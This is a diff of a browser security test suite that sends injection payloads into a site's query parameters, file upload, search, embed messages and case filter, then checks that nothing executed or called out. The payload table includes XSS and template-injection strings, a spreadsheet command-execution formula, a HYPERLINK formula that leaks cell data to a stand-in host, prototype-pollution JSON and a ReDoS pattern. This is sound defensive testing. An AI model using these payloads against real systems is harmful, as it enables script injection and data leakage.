@@ -23,7 +23,7 @@ const PAYLOADS: Record<string, string> = {
   closing: '</script></textarea></title></style><script>window.hit=1</script>',
   template: '${window.hit=1}{{constructor.constructor("window.hit=1")()}}',
   formula: '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
-  command: '+cmd|\' /C calc\'!A0',
+  command: "+cmd|' /C calc'!A0",
   prototype: '__proto__',
   prototypeJson: '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
   pattern: '(a+)+$^[\\]{1,99999}.*?',
@@ -36,9 +36,28 @@ const PAYLOADS: Record<string, string> = {
   spaces: ' \t\n\u3000'.repeat(5000),
 };
 
+/** A payload as an address can carry it: half a character has no form there. */
+const forAddress = (text: string): string => text.replace(/\p{Surrogate}/gu, '\ufffd').slice(0, 600);
+
 /** Every query name a tool reads, and names that must mean nothing. */
 const NAMES = [
-  ...['platform', 'kind', 'points', 'date', 'time', 'finding', 'stage', 'tier', 'shop', 'area', 'q', 'theme', 'accent', 'year', 'method'],
+  ...[
+    'platform',
+    'kind',
+    'points',
+    'date',
+    'time',
+    'finding',
+    'stage',
+    'tier',
+    'shop',
+    'area',
+    'q',
+    'theme',
+    'accent',
+    'year',
+    'method',
+  ],
   ...['__proto__', 'constructor', '__proto__[polluted]', 'toString', 'notice', 'text'],
 ];
 
@@ -65,7 +84,8 @@ async function unharmed(page: Page, what: string): Promise<void> {
     foreign: [...document.querySelectorAll('img[src="x"], svg[onload], iframe[srcdoc], script:not([type*=json]):not([src])')]
       .map((e) => e.outerHTML)
       .filter((html) => html.includes('hit')),
-    links: [...document.querySelectorAll('a[href]')].filter((a) => /^\s*(javascript|data):/i.test(a.getAttribute('href') ?? '')).length,
+    links: [...document.querySelectorAll('a[href]')].filter((a) => /^\s*(javascript|data):/i.test(a.getAttribute('href') ?? ''))
+      .length,
     alive: document.querySelector('main h1, h1') !== null,
   }));
   expect(state, what).toEqual({ hit: false, polluted: false, foreign: [], links: 0, alive: true });
@@ -74,7 +94,7 @@ async function unharmed(page: Page, what: string): Promise<void> {
 describe.each(tools)('%s', (tool) => {
   it('takes any address', async () => {
     const page = await context.newPage();
-    const payloads = Object.entries(PAYLOADS).map(([name, text]) => [name, text.toWellFormed().slice(0, 600)] as const);
+    const payloads = Object.entries(PAYLOADS).map(([name, text]) => [name, forAddress(text)] as const);
     // Every payload stands once under every name: in each round all names are given, each with the next payload.
     for (const [round] of payloads.entries()) {
       const query = new URLSearchParams(NAMES.map((name, i) => [name, payloads[(i + round) % payloads.length]?.[1] ?? '']));
@@ -121,7 +141,11 @@ describe.each(tools)('%s', (tool) => {
         .filter((p) => p.length < 500)
         .map((p) => `"${p.replaceAll('"', '""')}","${p.replaceAll('"', '""')}"`);
       const name = '"><img src=x onerror=window.hit=1>..⁄__proto__.csv';
-      await input.setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(`订单编号,"=1+1<script>window.hit=1</script>"\n${rows.join('\n')}\n`) });
+      await input.setInputFiles({
+        name,
+        mimeType: 'text/csv',
+        buffer: Buffer.from(`订单编号,"=1+1<script>window.hit=1</script>"\n${rows.join('\n')}\n`),
+      });
       await submitEverything(page);
       await page.waitForTimeout(200);
       await unharmed(page, `${tool} file`);
@@ -134,7 +158,7 @@ describe('other doors', () => {
   it.runIf(existsSync(join(DIST, 'search/index.html')))('the search page takes any query', async () => {
     const page = await context.newPage();
     for (const [name, text] of Object.entries(PAYLOADS)) {
-      await page.goto(`${site.url}/search/?q=${encodeURIComponent(text.toWellFormed().slice(0, 600))}`);
+      await page.goto(`${site.url}/search/?q=${encodeURIComponent(forAddress(text))}`);
       await page.locator('[data-search-status]:not([data-search-status=searching])').first().waitFor({ state: 'attached' });
       await unharmed(page, `search ${name}`);
     }
@@ -146,7 +170,14 @@ describe('other doors', () => {
     await page.goto(`${site.url}/embed/clearing-date/`);
     for (const text of Object.values(PAYLOADS))
       await page.evaluate((payload) => {
-        for (const message of [payload, { zhendan: payload }, { zhendan: 'height', value: payload }, { type: payload, __proto__: { polluted: 1 } }, null, 1e308])
+        for (const message of [
+          payload,
+          { zhendan: payload },
+          { zhendan: 'height', value: payload },
+          { type: payload, __proto__: { polluted: 1 } },
+          null,
+          1e308,
+        ])
           window.postMessage(message, '*');
       }, text);
     await unharmed(page, 'embed');
@@ -156,7 +187,7 @@ describe('other doors', () => {
   it('the case filter takes any address', async () => {
     const page = await context.newPage();
     for (const text of Object.values(PAYLOADS)) {
-      const value = encodeURIComponent(text.toWellFormed().slice(0, 600));
+      const value = encodeURIComponent(forAddress(text));
       await page.goto(`${site.url}/cases/?kind=${value}&method=${value}&${value}=1#${value}`, { waitUntil: 'domcontentloaded' });
       await unharmed(page, 'cases');
     }
@@ -167,7 +198,9 @@ describe('other doors', () => {
 describe('in all of this', () => {
   it('nothing asked another host, opened a dialog or threw', () => {
     expect(seen.requests.length).toBeGreaterThan(100);
-    expect(seen.requests.filter((r) => !r.url.startsWith(`${site.url}/`) && !/^(blob|data):/.test(r.url)).map((r) => r.url)).toEqual([]);
+    expect(
+      seen.requests.filter((r) => !r.url.startsWith(`${site.url}/`) && !/^(blob|data):/.test(r.url)).map((r) => r.url),
+    ).toEqual([]);
     expect(seen.dialogs).toEqual([]);
     expect([...new Set(seen.trouble.map((t) => t.replace(/\?\S*/, '?…')))]).toEqual([]);
   });
